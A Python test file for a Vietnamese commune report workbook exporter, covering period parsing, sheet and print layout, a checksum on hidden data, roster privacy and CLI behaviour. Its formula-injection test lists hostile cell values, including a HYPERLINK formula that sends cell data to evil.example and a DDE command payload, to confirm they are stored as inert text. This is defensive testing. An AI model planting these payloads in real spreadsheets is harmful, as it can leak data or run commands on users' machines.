"""The report workbook as a file: its sheets, print setup, _meta, checksum,
formula injection, atomic writing, periods and the command line."""
from __future__ import annotations

import json
import hashlib
import re
import uuid
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from app.domain.organizations import by_code, front_committee_id
from app.domain.people import add_person, join_organization
from app.domain.tasks import add_task
from app.errors import InvalidValue
from app.progress import Cancelled
from app.reports.province_report import export_report
from app.reports.report_file import META_KEYS, ReportRejected, read_report
from app.text.periods import parse_period
from tests.helpers import cli
from tests.report_commune import build

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-x", "@SUM(A1:A9)", "\t=1+2",
           "=cmd|' /C calc'!A0"]


@pytest.fixture
def report(store, tmp_path):
    build(store)
    out = tmp_path / "bao-cao.xlsx"
    export_report(store, parse_period("2026-11"), out, with_rosters=True)
    return out


# -- periods ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text, code, first, last", [
    ("2026-11", "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
    ("2024-2", "2024-02", date(2024, 2, 1), date(2024, 2, 29)),
    ("2026-Q4", "2026-Q4", date(2026, 10, 1), date(2026, 12, 31)),
    ("2026-q1", "2026-Q1", date(2026, 1, 1), date(2026, 3, 31)),
    ("2026-H2", "2026-H2", date(2026, 7, 1), date(2026, 12, 31)),
    (" 2026-h1 ", "2026-H1", date(2026, 1, 1), date(2026, 6, 30)),
    ("2026", "2026", date(2026, 1, 1), date(2026, 12, 31)),
    # as clerks write them, with or without accents
    ("11/2026", "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
    ("T11/2026", "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
    ("t2/2024", "2024-02", date(2024, 2, 1), date(2024, 2, 29)),
    ("Tháng 11 năm 2026", "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
    ("thang 11/2026", "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
    ("Q4/2026", "2026-Q4", date(2026, 10, 1), date(2026, 12, 31)),
    ("Quý 4/2026", "2026-Q4", date(2026, 10, 1), date(2026, 12, 31)),
    ("quy 1 nam 2026", "2026-Q1", date(2026, 1, 1), date(2026, 3, 31)),
    ("Quý IV năm 2026", "2026-Q4", date(2026, 10, 1), date(2026, 12, 31)),
    ("6 tháng đầu năm 2026", "2026-H1", date(2026, 1, 1), date(2026, 6, 30)),
    ("6 THÁNG CUỐI NĂM 2026", "2026-H2", date(2026, 7, 1), date(2026, 12, 31)),
    ("H2/2026", "2026-H2", date(2026, 7, 1), date(2026, 12, 31)),
    ("Năm 2026", "2026", date(2026, 1, 1), date(2026, 12, 31)),
])
def test_periods(text, code, first, last):
    period = parse_period(text)
    assert (period.code, period.first, period.last) == (code, first, last)


def test_period_labels():
    assert parse_period("2026-Q4").label() == "quý IV năm 2026"
    assert parse_period("2026-H2").label() == "6 tháng cuối năm 2026"
    assert parse_period("2026-11").label("en") == "November 2026"


@pytest.mark.parametrize("text", ["2026-13", "2026-00", "2026-Q5", "2026-H3", "26-11", "13/2026", "", "2026-11-01",
                                  "Q5/2026", "quý V/2026", "6 tháng giữa năm 2026", "T11", "11/26", "22/11/2026"])
def test_bad_periods_say_how_to_write_one(text):
    with pytest.raises(InvalidValue) as caught:
        parse_period(text)
    assert caught.value.code == "period.bad"


def test_a_period_that_has_not_started_is_refused():
    with pytest.raises(InvalidValue) as caught:
        parse_period("2026-12", today=date(2026, 11, 22))
    assert caught.value.code == "period.future"
    assert parse_period("2026-11", today=date(2026, 11, 22)).code == "2026-11"


# -- the workbook -------------------------------------------------------------------------------


def test_sheets_meta_and_print_setup(report, store):
    book = openpyxl.load_workbook(report)
    assert book.sheetnames[:4] == ["Tổng hợp", "Công tác Mặt trận", "Chức danh", "Công việc"]
    assert book.sheetnames[-2:] == ["_meta", "_data"]
    assert {ws.title: ws.sheet_state for ws in book}["_meta"] == "hidden"
    assert book["_data"].sheet_state == "hidden"
    assert all(book[n].sheet_state == "visible" for n in book.sheetnames[:-2])
    meta = {r[0]: r[1] for r in book["_meta"].iter_rows(min_row=2, values_only=True)}
    assert tuple(meta) == META_KEYS
    assert meta["template_id"] == "frontdesk.commune-report" and meta["template_version"] == "2"
    assert meta["demo"] == "false"
    assert (meta["commune_code"], meta["commune_name"], meta["province_code"]) == ("00004", "Phường Ba Đình", "01")
    assert meta["period"] == "2026-11"
    assert datetime.fromisoformat(meta["generated_at"]).tzinfo is not None
    assert uuid.UUID(meta["export_id"]).version == 4
    # the checksum, computed as docs/report-format.md tells another program to
    identity = "".join(f"{key}\t{value}\n" for key, value in meta.items() if key != "data_sha256")
    rows = sorted((i, o, int(v)) for i, o, v in book["_data"].iter_rows(min_row=2, values_only=True))
    text = identity + "".join(f"{i}\t{o}\t{v}\n" for i, o, v in rows)
    assert meta["data_sha256"] == hashlib.sha256(text.encode("utf-8")).hexdigest()
    for name in book.sheetnames[:-2]:
        ws = book[name]
        assert ws.page_setup.paperSize == 9 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0
        # every table's header repeats on each page; the registers' page is three short tables
        assert ws.print_title_rows or name == "Công tác Mặt trận", name
        assert ws.page_margins.left > ws.page_margins.right  # binding side, as official documents
    assert book["Tổng hợp"].page_setup.orientation == "landscape"
    assert book["Chức danh"].page_setup.orientation == "portrait"


def test_the_summary_reads_like_an_official_document(report):
    ws = openpyxl.load_workbook(report)["Tổng hợp"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "ỦY BAN MTTQ VIỆT NAM" in texts and "PHƯỜNG BA ĐÌNH" in texts
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in texts and "Độc lập - Tự do - Hạnh phúc" in texts
    assert "Ba Đình, ngày 22 tháng 11 năm 2026" in texts
    assert "Số liệu công tác Mặt trận tháng 11 năm 2026" in texts
    assert "TM. BAN THƯỜNG TRỰC" in texts and "CHỦ TỊCH" in texts and "(Ký tên, đóng dấu)" in texts
    assert "Nguyễn Thị Hoa" in texts  # the chair signs
    assert "Tổng cộng toàn phường" in texts  # Ba Đình is a phường, not a xã
    fonts = {c.font.name for row in ws.iter_rows() for c in row if c.value is not None}
    assert fonts == {"Times New Roman"}


def test_task_dates_are_dates_shown_day_first(report):
    ws = openpyxl.load_workbook(report)["Công việc"]
    dated = [c for row in ws.iter_rows() for c in row if isinstance(c.value, datetime)]
    assert dated and {c.number_format for c in dated} == {"dd/mm/yyyy"}


def test_rosters_leave_out_personal_data(report):
    book = openpyxl.load_workbook(report)
    rosters = [n for n in book.sheetnames if n.startswith("DS ")]
    assert len(rosters) == 5
    women = book[next(n for n in rosters if "Phụ nữ" in n)]
    texts = [c.value for row in women.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Lò Thị Mai" in texts and "Nguyễn Thị Hoa" in texts
    assert "Thái" not in texts and "Phật giáo" not in texts


# -- the checksum --------------------------------------------------------------------------------


def test_the_checksum_catches_an_edited_figure(report, tmp_path):
    read_report(report)  # as written: accepted
    book = openpyxl.load_workbook(report)
    ws = book["_data"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "members.total" and r[1].value == "commune")
    row[2].value += 1
    edited = tmp_path / "sua.xlsx"
    book.save(edited)
    with pytest.raises(ReportRejected) as caught:
        read_report(edited)
    assert caught.value.reason == "bad_checksum"


def test_the_checksum_catches_a_removed_row_but_not_a_reordering(report, tmp_path):
    book = openpyxl.load_workbook(report)
    ws = book["_data"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    for n, values in enumerate(reversed(rows), start=2):  # same figures, other order
        for col, value in enumerate(values, start=1):
            ws.cell(n, col, value)
    reordered = tmp_path / "dao.xlsx"
    book.save(reordered)
    read_report(reordered)
    ws.delete_rows(2)
    shorter = tmp_path / "thieu.xlsx"
    book.save(shorter)
    with pytest.raises(ReportRejected):
        read_report(shorter)


# -- formula injection ------------------------------------------------------------------------------


def test_no_formula_anywhere_for_hostile_user_text(store, tmp_path):
    build(store)
    front = front_committee_id(store)
    women = by_code(store, "women")
    for text in HOSTILE:
        pid = add_person(store, {"full_name": text, "gender": "female", "birth_date": "1990", "note": text})[0]
        join_organization(store, pid, women, joined_on="01/01/2020")
        add_task(store, {"title": text, "organization_id": front, "due_on": "20/11/2026", "source_number": text},
                 lead_id=pid)
    out = tmp_path / "bc.xlsx"
    export_report(store, parse_period("2026-11"), out, with_rosters=True)
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = {n: z.read(n).decode("utf-8") for n in sheets}
        shared = z.read("xl/sharedStrings.xml").decode("utf-8")
    assert sheets and not any(re.search(r"<f[ >]", text) for text in xml.values())
    assert "HYPERLINK" in shared and "@SUM(A1:A9)" in shared  # there, as text
    # and Excel keeps them text even when the cell is edited: the quote prefix
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value in HOSTILE]
    assert {c.value for c in cells} >= {"+1", "@SUM(A1:A9)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


# -- writing safely -----------------------------------------------------------------------------------


def test_a_cancelled_export_leaves_the_old_file_and_no_temporary(report, store, tmp_path):
    before = report.read_bytes()

    def cancel(stage, done, total):
        if stage == "writing":
            raise Cancelled()

    with pytest.raises(Cancelled):
        export_report(store, parse_period("2026-11"), report, progress=cancel)
    assert report.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# -- the command line -----------------------------------------------------------------------------------


def test_cli_export_report(store, tmp_path):
    build(store)
    db = store.path
    store.close()
    out = tmp_path / "bc.xlsx"
    code, stdout, err = cli("export", "report", "--period", "2026-11", "--out", str(out), "--db", str(db), "--json")
    assert code == 0, err
    payload = json.loads(stdout)
    assert payload["path"] == str(out) and payload["meta"]["period"] == "2026-11"
    assert read_report(out).meta["export_id"] == payload["meta"]["export_id"]
    code, stdout, err = cli("export", "report", "--period", "2026-11", "--out", str(out), "--db", str(db))
    assert code == 0 and "Hội viên, đoàn viên: 4" in stdout
    # as a clerk writes the period
    code, stdout, err = cli("export", "report", "--period", "Quý 4/2026", "--out", str(out), "--db", str(db), "--json")
    assert code == 0 and json.loads(stdout)["meta"]["period"] == "2026-Q4"


@pytest.mark.parametrize("args, code, words", [
    (["--period", "2026-13"], 1, "Kỳ báo cáo “2026-13” không hợp lệ"),
    (["--period", "2099-Q1"], 1, "chưa có số liệu"),
    (["--period", "2026-11", "--lang", "en"], 1, None),
    ([], 2, "--period"),
])
def test_cli_export_report_refusals(store, tmp_path, args, code, words):
    db = store.path
    store.close()
    out = tmp_path / ("bc.txt" if "--lang" in args else "bc.xlsx")
    got, stdout, err = cli("export", "report", *args, "--out", str(out), "--db", str(db))
    assert got == code
    assert "Traceback" not in err and not out.exists()
    if words:
        assert words in err
    else:
        assert ".xlsx" in err and err.count("\n") == 1


def test_reading_only_named_sheets_includes_hidden_ones(report):
    from app.spreadsheets.reading import read_workbook

    visible = [s.name for s in read_workbook(report)]
    assert "_meta" not in visible and "_data" not in visible and "Tổng hợp" in visible
    assert [s.name for s in read_workbook(report, only=("_meta", "_data"))] == ["_meta", "_data"]
